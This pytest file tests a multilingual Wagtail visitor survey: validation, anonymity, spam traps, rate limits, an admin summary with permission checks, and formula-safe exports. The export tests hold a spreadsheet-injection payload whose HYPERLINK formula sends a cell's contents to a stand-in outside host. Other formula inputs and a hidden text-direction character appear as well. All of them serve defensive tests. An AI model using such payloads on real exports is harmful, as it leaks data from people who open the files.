"""The yearly visitor survey (`ideas.SurveyPage`, Wagtail's form builder): anonymous answers in fi, sv and en,
bad input refused with a message and nothing stored, robots and floods turned away, a summary in the admin
that counts all translations together (or apart where their questions differ) without breaking down small
groups, and exports with spreadsheet formulas neutralised."""

import csv
import datetime
import io
import uuid

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group, Permission
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import gettext
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission
from wagtail.models import GroupPagePermission
from wagtail.users.models import UserProfile

from ideas.form_pages_admin import survey_summary, surveys_menu_item
from ideas.models import SurveyField, SurveyPage
from ideas.models.form_pages import MULTI_LINE_MAX, SUBMISSION_KEY
from pages import throttle
from pages.exports import SafeSubmissionsListView
from tests.events.builders import translate

from .builders import make_ideas_site

QUESTIONS = [
    ("Kuinka usein käytte paikassa?", "radio", "Joka viikko\nKerran kuussa\nHarvemmin", True),
    ("Mistä pidätte?", "checkboxes", "Leikit\nKahvila\nRyhmät", False),
    ("Montako lasta perheessä on?", "number", "", False),
    ("Mitä haluatte sanoa?", "multiline", "", False),
]
SWEDISH = [
    ("Hur ofta besöker ni platsen?", "Varje vecka\nEn gång i månaden\nMera sällan"),
    ("Vad tycker ni om?", "Lekar\nKafé\nGrupper"),
    ("Hur många barn finns i familjen?", ""),
    ("Vad vill ni säga?", ""),
]


def make_survey(site: dict, questions=QUESTIONS) -> SurveyPage:
    page = SurveyPage(
        title="Kävijäkysely",
        slug="kavijakysely",
        thank_you_text="<p>Kiitos, vastauksenne auttaa meitä.</p>",
        form_fields=[
            SurveyField(label=label, field_type=kind, choices=choices, required=required)
            for label, kind, choices, required in questions
        ],
    )
    return site["home"].add_child(instance=page)


def fields_of(page) -> list[SurveyField]:
    return list(SurveyField.objects.filter(page=page).order_by("sort_order", "pk"))


def translate_survey(page: SurveyPage, language: str, title: str, questions) -> SurveyPage:
    """A published translation whose questions (label, choices) replace the copied ones, by position; `questions`
    shorter than the source's removes the rest."""
    translation_page = translate(page, language, title=title)
    copied = fields_of(translation_page)
    for survey_field, (label, choices) in zip(copied, questions, strict=False):
        survey_field.label, survey_field.choices = label, choices
        survey_field.save()
    for survey_field in copied[len(questions) :]:
        survey_field.delete()
    return translation_page


@pytest.fixture
def site(db):
    site = make_ideas_site()
    site["survey"] = make_survey(site)
    return site


@pytest.fixture
def translated(site):
    site["survey_sv"] = translate_survey(site["survey"], "sv", "Besökarenkät", SWEDISH)
    # The English translation lost its number and text questions: it is summarised apart.
    english = [
        ("How often do you visit?", "Every week\nOnce a month\nLess often"),
        ("What do you like?", "Play\nCafé\nGroups"),
    ]
    site["survey_en"] = translate_survey(site["survey"], "en", "Visitor survey", english)
    return site


def names(page) -> list[str]:
    return [f"q-{survey_field.clean_name}" for survey_field in fields_of(page)]


def answers(page, *values, key=None) -> dict:
    """POST data for `page`: its questions' answers by position, and a submission key."""
    data = {"submission_key": key or str(uuid.uuid4())}
    for name, value in zip(names(page), values, strict=False):
        if value is not None:
            data[name] = value
    return data


def send(client, page, *values, key=None, **extra):
    return client.post(page.url, answers(page, *values, key=key), **extra)


def store(page, *values, when=None) -> FormSubmission:
    """An answer straight into the table, for summaries."""
    data = {survey_field.clean_name: value for survey_field, value in zip(fields_of(page), values, strict=False)}
    submission = FormSubmission.objects.create(page=page, form_data=data)
    if when is not None:
        FormSubmission.objects.filter(pk=submission.pk).update(submit_time=when)
    return submission


# The public form


def test_the_survey_asks_its_questions_with_choices_as_fieldsets_and_is_never_cached(client, site):
    response = client.get("/kavijakysely/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "<legend>Kuinka usein käytte paikassa?</legend>" in html
    assert "<legend>Mistä pidätte?</legend>" in html
    radio, checkboxes, number, text = names(site["survey"])
    assert f'type="radio" name="{radio}" value="Kerran kuussa"' in html
    assert f'type="checkbox" name="{checkboxes}" value="Kahvila"' in html
    assert f'<textarea name="{text}"' in html and f'maxlength="{MULTI_LINE_MAX}"' in html
    assert 'name="submission_key"' in html
    assert 'class="form-trap" aria-hidden="true"' in html
    assert "no-cache" in response["Cache-Control"]
    assert "<script" not in html.split("</header>")[1]


def test_an_anonymous_answer_is_stored_without_a_user_and_the_family_sees_the_thanks(client, site):
    radio, checkboxes, number, text = fields_of(site["survey"])
    response = send(client, site["survey"], "Joka viikko", ["Leikit", "Ryhmät"], "2", "Kiitos!")
    assert response.status_code == 302
    assert response["Location"] == "/kavijakysely/kiitos/"
    submission = FormSubmission.objects.get()
    assert submission.page_id == site["survey"].pk
    assert submission.form_data[radio.clean_name] == "Joka viikko"
    assert submission.form_data[checkboxes.clean_name] == ["Leikit", "Ryhmät"]
    assert submission.form_data[text.clean_name] == "Kiitos!"
    # Nothing about who answered: Wagtail's answers have no user or address, and none is added.
    assert {model_field.name for model_field in FormSubmission._meta.get_fields()} == {
        "id",
        "form_data",
        "page",
        "submit_time",
    }
    assert set(submission.form_data) == {f.clean_name for f in fields_of(site["survey"])} | {SUBMISSION_KEY}

    thanks = client.get(response["Location"])
    assert thanks.status_code == 200
    html = thanks.content.decode()
    assert "Kiitos, vastauksenne auttaa meitä." in html
    assert '<meta name="robots" content="noindex">' in html
    assert 'role="status"' in html


def test_the_thanks_address_takes_no_answers(client, site):
    response = client.post("/kavijakysely/kiitos/", answers(site["survey"], "Joka viikko"))
    assert response.status_code == 405
    assert not FormSubmission.objects.exists()


def test_each_translation_asks_its_own_questions_and_keeps_its_own_answers(client, translated):
    swedish, english = translated["survey_sv"], translated["survey_en"]
    html = client.get("/sv/kavijakysely/").content.decode()
    assert '<html lang="sv"' in html and "<legend>Hur ofta besöker ni platsen?</legend>" in html
    html = client.get("/en/kavijakysely/").content.decode()
    assert '<html lang="en"' in html and "<legend>How often do you visit?</legend>" in html
    assert "Montako lasta" not in html

    assert send(client, swedish, "Varje vecka", ["Kafé"])["Location"] == "/sv/kavijakysely/kiitos/"
    assert send(client, english, "Less often")["Location"] == "/en/kavijakysely/kiitos/"
    stored = dict(FormSubmission.objects.values_list("page_id", "form_data"))
    assert stored[swedish.pk][fields_of(swedish)[0].clean_name] == "Varje vecka"
    assert stored[english.pk][fields_of(english)[0].clean_name] == "Less often"


def test_a_missing_answer_shows_the_form_again_with_an_error_summary_and_what_was_typed(client, site):
    key = str(uuid.uuid4())
    response = send(client, site["survey"], None, ["Kahvila"], "3", "Hyvä paikka <3", key=key)
    assert response.status_code == 200
    html = response.content.decode()
    radio = names(site["survey"])[0]
    assert 'class="error-summary"' in html
    assert f'href="#id_{radio}_0"' in html  # the summary's link lands on the question's first choice
    assert "Hyvä paikka &lt;3</textarea>" in html
    assert f'value="Kahvila" id="id_{names(site["survey"])[1]}_1" checked' in html
    assert f'name="submission_key" value="{key}"' in html
    assert not FormSubmission.objects.exists()


def test_text_with_hidden_direction_characters_is_refused_with_a_message(client, site):
    with translation.override("en"):
        message = gettext("The text contains hidden control or text-direction characters")
    site_en = translate(site["survey"], "en", title="Visitor survey")
    response = send(client, site_en, "Joka viikko", None, None, "Hyvä \u202epaikka")
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not FormSubmission.objects.exists()


def test_a_text_over_the_limit_is_refused_with_the_limit_and_the_length(client, site):
    site_en = translate(site["survey"], "en", title="Visitor survey")
    response = send(client, site_en, "Joka viikko", None, None, "a" * (MULTI_LINE_MAX + 1))
    assert response.status_code == 200
    with translation.override("en"):
        expected = gettext("Use at most %(limit_value)d characters (you wrote %(show_value)d).") % {
            "limit_value": MULTI_LINE_MAX,
            "show_value": MULTI_LINE_MAX + 1,
        }
    assert expected in response.content.decode()
    assert not FormSubmission.objects.exists()


def test_an_answer_outside_the_choices_is_refused(client, site):
    response = send(client, site["survey"], "Joka päivä")
    assert response.status_code == 200
    assert 'class="error-summary"' in response.content.decode()
    assert not FormSubmission.objects.exists()


def test_sending_the_same_answers_twice_stores_them_once(client, site):
    key = str(uuid.uuid4())
    first = send(client, site["survey"], "Joka viikko", key=key)
    second = send(client, site["survey"], "Joka viikko", key=key)
    assert first.status_code == second.status_code == 302
    assert second["Location"] == "/kavijakysely/kiitos/"
    assert FormSubmission.objects.count() == 1
    send(client, site["survey"], "Joka viikko")
    assert FormSubmission.objects.count() == 2


def test_a_sending_without_its_key_is_refused_with_a_message_and_gets_a_new_key(client, site):
    data = answers(site["survey"], "Joka viikko")
    del data["submission_key"]
    response = client.post(site["survey"].url, data)
    assert response.status_code == 200
    html = response.content.decode()
    assert 'class="error-summary"' in html
    assert 'name="submission_key" value="' in html
    assert not FormSubmission.objects.exists()


def test_a_filled_trap_field_is_answered_as_if_stored_and_nothing_is(client, site):
    data = {**answers(site["survey"], "Joka viikko"), "website": "https://spam.example"}
    response = client.post(site["survey"].url, data)
    assert response.status_code == 302 and response["Location"] == "/kavijakysely/kiitos/"
    assert not FormSubmission.objects.exists()


def test_a_flood_from_one_connection_gets_the_429_page_in_the_readers_language(client, translated):
    swedish = translated["survey_sv"]
    limit = SurveyPage.answers_per_client.hits
    for _number in range(limit):
        assert send(client, swedish, "Varje vecka", REMOTE_ADDR="10.0.0.7").status_code == 302
    response = send(client, swedish, "Varje vecka", REMOTE_ADDR="10.0.0.7")
    assert response.status_code == 429
    html = response.content.decode()
    assert '<html lang="sv"' in html
    with translation.override("sv"):
        assert gettext("Too many tries") in html
    assert int(response["Retry-After"]) == SurveyPage.answers_per_client.seconds
    assert FormSubmission.objects.count() == limit
    # Another connection still gets through.
    assert send(client, swedish, "Varje vecka", REMOTE_ADDR="10.0.0.8").status_code == 302


def test_when_everybody_together_sends_too_much_the_site_pauses_answers(client, site, monkeypatch):
    monkeypatch.setattr(SurveyPage, "answers_overall", throttle.Limit(3, 60 * 60))
    for number in range(3):
        assert send(client, site["survey"], "Joka viikko", REMOTE_ADDR=f"10.0.1.{number}").status_code == 302
    response = send(client, site["survey"], "Joka viikko", REMOTE_ADDR="10.0.1.99")
    assert response.status_code == 429
    assert response.context["overall"] is True
    assert FormSubmission.objects.count() == 3


# The summary in the admin


def make_staff(username: str, *pages) -> object:
    """A user of the admin who may edit `pages` (and so see their answers), and nothing else."""
    user = get_user_model().objects.create_user(username, password="pitka-salasana-123")
    group = Group.objects.create(name=f"{username} group")
    group.permissions.add(Permission.objects.get(codename="access_admin"))
    for page in pages:
        GroupPagePermission.objects.create(group=group, page=page, permission_type="change")
    user.groups.add(group)
    return user


def in_english(user):
    """The user's admin in English (the language these tests read)."""
    profile = UserProfile.get_for_user(user)
    profile.preferred_language = "en"
    profile.save()
    return user


def refused(response) -> bool:
    """Wagtail's admin answers a refused view (PermissionDenied) with a redirect to its dashboard and a message."""
    return response.status_code == 403 or (
        response.status_code == 302 and response["Location"] in (reverse("wagtailadmin_home"), "/admin/")
    )


def menu_shown_to(client) -> bool:
    """Whether the admin menu shows "Surveys" to the user signed in to `client`."""
    request = RequestFactory().get("/admin/")
    request.user = get_user_model().objects.get(pk=client.session["_auth_user_id"])
    return surveys_menu_item().is_shown(request)


def fill(translated) -> None:
    """fi 4 and sv 2 answers that count together; en 5 answers apart."""
    fi, sv, en = translated["survey"], translated["survey_sv"], translated["survey_en"]
    store(fi, "Joka viikko", ["Leikit", "Kahvila"], "2", "Hyvä")
    store(fi, "Joka viikko", ["Leikit"], "1", "")
    store(fi, "Kerran kuussa", [], "3", "Kiva")
    store(fi, "Harvemmin", ["Ryhmät"], None, "")
    store(sv, "Varje vecka", ["Lekar", "Grupper"], "4", "Bra")
    store(sv, "Mera sällan", ["Kafé"], "2", "")
    for choice in ("Every week", "Every week", "Every week", "Less often", "Once a month"):
        store(en, choice, ["Play"])
    store(fi, "Joka viikko", ["Leikit"], "9", "Viime vuonna", when=timezone.now() - datetime.timedelta(days=400))


def bars(question) -> dict:
    return {bar.label: bar.value for bar in question.chart.bars}


def test_the_summary_counts_matching_translations_together_by_position(translated):
    fill(translated)
    pages = [translated["survey"], translated["survey_sv"], translated["survey_en"]]
    groups = survey_summary(pages, timezone.localdate().year)
    together, english = groups
    assert [page.pk for page in together.pages] == [translated["survey"].pk, translated["survey_sv"].pk]
    assert together.answers == 6 and not together.separate
    often, likes, children, words = together.questions
    assert bars(often) == {"Joka viikko": 3, "Kerran kuussa": 1, "Harvemmin": 2}
    assert often.answered == 6 and not often.too_few
    assert [bar.text for bar in often.chart.bars][0].startswith("3 (50")
    assert bars(likes) == {"Leikit": 3, "Kahvila": 2, "Ryhmät": 2}
    assert likes.answered == 5
    assert children.kind == "number" and children.answered == 5
    assert children.average.replace(",", ".") == "2.4"
    assert words.kind == "text" and words.answered == 3 and words.too_few

    assert english.separate and english.answers == 5
    assert [page.pk for page in english.pages] == [translated["survey_en"].pk]
    assert bars(english.questions[0]) == {"Every week": 3, "Once a month": 1, "Less often": 1}
    assert english.questions[1].too_few is False and bars(english.questions[1])["Play"] == 5


def test_the_summary_page_shows_charts_hides_small_groups_and_says_which_translation_is_apart(client, translated):
    fill(translated)
    client.force_login(
        in_english(get_user_model().objects.create_superuser("koordinaattori", password="pitka-salasana-123"))
    )
    response = client.get(reverse("ideas_survey_summary", args=[translated["survey_sv"].pk]))
    assert response.status_code == 200
    html = response.content.decode()
    assert "<caption>Kuinka usein käytte paikassa?</caption>" in html
    assert '<th scope="row">Joka viikko</th>' in html
    assert "<caption>How often do you visit?</caption>" in html
    assert "summarised separately" in html
    # Three written answers: no figures for that question.
    words = html.split("<h3>Mitä haluatte sanoa?</h3>")[1].split("</div>")[0]
    assert "Fewer than 5 answers" in words and "written answer" not in words
    submissions = reverse("wagtailforms:list_submissions", args=[translated["survey"].pk])
    assert f'href="{submissions}?' in html
    assert "Viime vuonna" not in html


def test_the_summary_of_another_year_counts_only_that_years_answers(client, translated):
    fill(translated)
    last_year = (timezone.now() - datetime.timedelta(days=400)).year
    client.force_login(
        in_english(get_user_model().objects.create_superuser("koordinaattori", password="pitka-salasana-123"))
    )
    response = client.get(reverse("ideas_survey_summary", args=[translated["survey"].pk]), {"year": last_year})
    html = response.content.decode()
    assert f'<option value="{last_year}" selected>' in html
    assert "1 answer in" in html
    assert "<caption>Kuinka usein käytte paikassa?</caption>" not in html  # one answer: no chart


def test_an_editor_who_may_not_see_the_surveys_answers_is_refused(client, translated):
    fill(translated)
    client.force_login(make_staff("viikkotoimittaja", translated["week_page"]))
    for url in (
        reverse("ideas_survey_summary", args=[translated["survey"].pk]),
        reverse("wagtailforms:list_submissions", args=[translated["survey"].pk]) + "?export=csv",
    ):
        response = client.get(url)
        assert refused(response)
        assert b"Mist\xc3\xa4 pid\xc3\xa4tte" not in b"".join(
            getattr(response, "streaming_content", [response.content])
        )
    assert "Mistä pidätte" not in client.get(reverse("ideas_surveys")).content.decode()
    assert not menu_shown_to(client)


def test_an_editor_of_the_finnish_survey_sees_its_summary_without_the_translations_they_may_not_see(client, translated):
    fill(translated)
    client.force_login(in_english(make_staff("kyselytoimittaja", translated["survey"])))
    response = client.get(reverse("ideas_survey_summary", args=[translated["survey"].pk]))
    assert response.status_code == 200
    html = response.content.decode()
    assert "2 translations of this survey are left out" in html
    assert "<caption>How often do you visit?</caption>" not in html
    assert refused(client.get(reverse("ideas_survey_summary", args=[translated["survey_sv"].pk])))
    listing = client.get(reverse("ideas_surveys")).content.decode()
    assert reverse("ideas_survey_summary", args=[translated["survey"].pk]) in listing
    assert menu_shown_to(client)


def test_the_summary_reads_the_answers_in_the_same_queries_however_many_there_are(client, translated):
    client.force_login(get_user_model().objects.create_superuser("koordinaattori", password="pitka-salasana-123"))
    url = reverse("ideas_survey_summary", args=[translated["survey"].pk])

    def queries() -> int:
        client.get(url)  # warms per-request caches (the admin's menu, content types)
        with CaptureQueriesContext(connection) as captured:
            assert client.get(url).status_code == 200
        return len(captured)

    fill(translated)
    few = queries()
    for _number in range(50):
        store(translated["survey"], "Joka viikko", ["Leikit"], "1", "Hyvä")
        store(translated["survey_sv"], "Varje vecka", ["Lekar"], "1", "Bra")
    assert queries() == few


def test_the_submissions_list_links_to_the_summary(client, site):
    client.force_login(get_user_model().objects.create_superuser("koordinaattori", password="pitka-salasana-123"))
    html = client.get(reverse("wagtailforms:list_submissions", args=[site["survey"].pk])).content.decode()
    assert f'href="{reverse("ideas_survey_summary", args=[site["survey"].pk])}"' in html


# Exports


FORMULA = '=HYPERLINK("https://example.com/?x="&A1;"Klikkaa")'


def test_exported_answers_have_formulas_neutralised_in_csv_and_xlsx(client, site):
    assert SurveyPage().get_submissions_list_view_class() is SafeSubmissionsListView
    store(site["survey"], "Joka viikko", ["Leikit", "Kahvila"], "3", FORMULA)
    store(site["survey"], "Harvemmin", ["@SUM(1)"], "-2", "+1")
    client.force_login(get_user_model().objects.create_superuser("koordinaattori", password="pitka-salasana-123"))
    url = reverse("wagtailforms:list_submissions", args=[site["survey"].pk])

    response = client.get(url, {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][1:] == [label for label, *_rest in QUESTIONS]
    assert rows[1][1:] == ["Joka viikko", "Leikit, Kahvila", "3", "'" + FORMULA]
    assert rows[2][1:] == ["Harvemmin", "'@SUM(1)", "-2", "'+1"]  # a number stays a number

    response = client.get(url, {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    formula_cell = cells[4]
    assert formula_cell.value == FORMULA
    assert formula_cell.data_type == "s" and formula_cell.quotePrefix
    assert cells[3].value == 3 and cells[3].data_type == "n"


def test_an_optional_list_starts_empty_so_skipping_it_answers_nothing_and_a_required_one_does_not():
    from ideas.models.form_pages import PlainTextFormBuilder

    optional = SurveyField(clean_name="kieli", label="Kotikieli", field_type="dropdown", required=False)
    optional.choices = "Suomi\nSvenska"
    required = SurveyField(
        clean_name="ika", label="Ikä", field_type="dropdown", required=True, choices="Alle 30\nYli 30"
    )
    form_class = PlainTextFormBuilder([optional, required]).get_form_class()
    assert [value for value, _label in form_class().fields["kieli"].choices] == ["", "Suomi", "Svenska"]
    assert [value for value, _label in form_class().fields["ika"].choices] == ["Alle 30", "Yli 30"]
    form = form_class(data={"kieli": "", "ika": "Yli 30"})
    assert form.is_valid() and form.cleaned_data["kieli"] == ""
    assert not form_class(data={"kieli": "", "ika": ""}).is_valid()
